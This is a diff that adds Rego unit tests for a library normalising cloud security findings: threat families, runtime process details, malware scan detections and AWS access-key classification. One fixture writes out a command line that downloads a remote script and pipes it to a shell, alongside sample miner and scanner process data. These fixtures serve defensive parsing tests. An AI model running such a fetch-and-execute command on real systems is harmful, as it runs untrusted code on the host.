@@ -527,3 +527,101 @@ test_shell_by_executable_when_renamed if {
 	lib.is_shell(p)
 	not lib.is_shell(proc(81, "bashful", "/opt/bashful", "bashful"))
 }
+
+# ---------------------------------------------------------------------------
+# Threat families
+
+test_threat_activity_by_family if {
+	lib.threat_family("C&CActivity.B!DNS") == "C&CActivity"
+	lib.threat_family("MaliciousDomainRequest.Reputation") == "MaliciousDomainRequest"
+	lib.threat_activity == "queried a domain of a known command-and-control server" with input as {"finding": {"type": "Backdoor:Runtime/C&CActivity.B!DNS"}}
+	lib.threat_activity == "contacted a known drop point for stolen credentials and data" with input as {"finding": {"type": "Trojan:Lambda/DropPoint"}}
+	lib.threat_activity == "queried a domain known to be malicious" with input as {"finding": {"type": "Impact:EC2/MaliciousDomainRequest.Reputation"}}
+	not lib.threat_activity with input as {"finding": {"type": "Execution:Runtime/ReverseShell"}}
+	lib.threat_activity == "is exfiltrating data through DNS queries" with input as {"finding": {"type": "Trojan:EC2/DNSDataExfiltration!DNS"}}
+}
+
+test_sample_from_the_normalized_finding if {
+	lib.sample with input as {"finding": {"source": "securityhub", "type": "x", "sample": true, "raw": {}}}
+	not lib.sample with input as {"finding": {"source": "guardduty", "type": "x", "sample": false, "raw": {}}}
+}
+
+# ---------------------------------------------------------------------------
+# Runtime Monitoring and Malware Protection
+
+runtime_camel := {"service": {"runtimeDetails": {
+	"process": {"name": "kworkerds", "pid": 48213, "user": "root", "executablePath": "/tmp/.x/kworkerds", "executableSha256": "5c3f", "lineage": []},
+	"context": {
+		"commandLineExample": "sh -c 'curl http://203.0.113.7/x | sh'",
+		"modifyingProcess": {"name": "curl", "executablePath": "/usr/bin/curl"},
+		"threatFilePath": "",
+		"toolName": {"unexpected": "shape"},
+	},
+}}}
+
+runtime_pascal := {"Service": {"RuntimeDetails": {
+	"Process": {"Name": "xmrig", "Pid": 7, "ExecutablePath": "/tmp/xmrig"},
+	"Context": {"ToolName": "masscan", "MountSource": "/var/run/docker.sock"},
+}}}
+
+test_runtime_process_in_both_spellings if {
+	lib.runtime_process == {"name": "kworkerds", "pid": 48213, "user": "root", "exe": "/tmp/.x/kworkerds", "sha256": "5c3f"} with input as raw_input(runtime_camel)
+	lib.runtime_process == {"name": "xmrig", "pid": 7, "exe": "/tmp/xmrig"} with input as raw_input(runtime_pascal)
+	lib.process_label(lib.runtime_process) == "xmrig (pid 7, user ?, /tmp/xmrig)" with input as raw_input(runtime_pascal)
+	lib.runtime_process == {} with input as raw_input({})
+}
+
+test_runtime_context_facts if {
+	lib.runtime_context_facts == [
+		["the command line", "sh -c 'curl http://203.0.113.7/x | sh'"],
+		["the process that wrote the file", "/usr/bin/curl"],
+	] with input as raw_input(runtime_camel)
+	lib.runtime_context_facts == [["the tool", "masscan"], ["the host path mounted", "/var/run/docker.sock"]] with input as raw_input(runtime_pascal)
+}
+
+test_runtime_details_only_from_guardduty if {
+	lib.runtime_process == {} with input as asff_input(object.union(forged_asff, runtime_camel))
+	not lib.runtime_context with input as asff_input(object.union(forged_asff, runtime_camel))
+}
+
+test_malware_detections_of_volume_scans if {
+	camel := {"service": {"ebsVolumeScanDetails": {"scanDetections": {"threatDetectedByName": {"threatNames": [
+		{"name": "EICAR-Test-File", "filePaths": [{"filePath": "/tmp/b.com"}, {"filePath": "/tmp/a.com"}, {"filePath": ""}]},
+		{"name": "Linux.Trojan.Kinsing", "filePaths": []},
+		{"name": ""},
+	]}}}}}
+	lib.malware_detections == {"EICAR-Test-File in /tmp/a.com, /tmp/b.com", "Linux.Trojan.Kinsing"} with input as raw_input(camel)
+	pascal := {"Service": {"EbsVolumeScanDetails": {"ScanDetections": {"ThreatDetectedByName": {"ThreatNames": [{"Name": "Xmrig", "FilePaths": [{"FilePath": "/opt/x"}]}]}}}}}
+	lib.malware_detections == {"Xmrig in /opt/x"} with input as raw_input(pascal)
+}
+
+test_malware_detections_of_object_scans if {
+	camel := {"service": {"malwareScanDetails": {"threats": [
+		{"name": "EICAR-Test-File", "itemPaths": [{"nestedItemPath": "invoice.zip/invoice.pdf.exe", "hash": "275a"}]},
+		{"name": "Win.Trojan.Agent", "itemPaths": [{"nestedItemPath": ""}]},
+	]}}}
+	lib.malware_detections == {"EICAR-Test-File in invoice.zip/invoice.pdf.exe", "Win.Trojan.Agent"} with input as raw_input(camel)
+	pascal := {"Service": {"MalwareScanDetails": {"Threats": [{"Name": "Emotet", "ItemPaths": [{"NestedItemPath": "a.doc"}]}]}}}
+	lib.malware_detections == {"Emotet in a.doc"} with input as raw_input(pascal)
+}
+
+# ---------------------------------------------------------------------------
+# Credentials a response may contain
+
+test_long_term_keys if {
+	lib.long_term_key({"type": "aws_iam_access_key", "id": "AKIAXQ4G7NF2ALICEKEY", "details": {"user_type": "IAMUser"}})
+	lib.long_term_key({"type": "aws_iam_access_key", "id": "AKIAXQ4G7NF2ALICEKEY", "details": {}})
+	not lib.long_term_key({"type": "aws_iam_access_key", "id": "ASIAXQ4G7NF2R5EXAMPL", "details": {}})
+	not lib.long_term_key({"type": "aws_iam_access_key", "id": "AKIAROOTKEYEXAMPLE01", "details": {"user_type": "Root"}})
+	not lib.long_term_key({"type": "aws_iam_user", "id": "alice", "details": {}})
+}
+
+test_finding_keys_and_principals if {
+	key := {"type": "aws_iam_access_key", "id": "AKIA1", "details": {}}
+	user := {"type": "aws_iam_user", "id": "alice", "details": {}}
+	role := {"type": "aws_iam_role", "id": "web", "details": {}}
+	bucket := {"type": "aws_s3_bucket", "id": "b", "details": {}}
+	x := {"finding": {"resources": [bucket, key, user, role]}}
+	[k.id | some k in lib.finding_keys] == ["AKIA1"] with input as x
+	[p.id | some p in lib.finding_principals] == ["alice", "web"] with input as x
+}
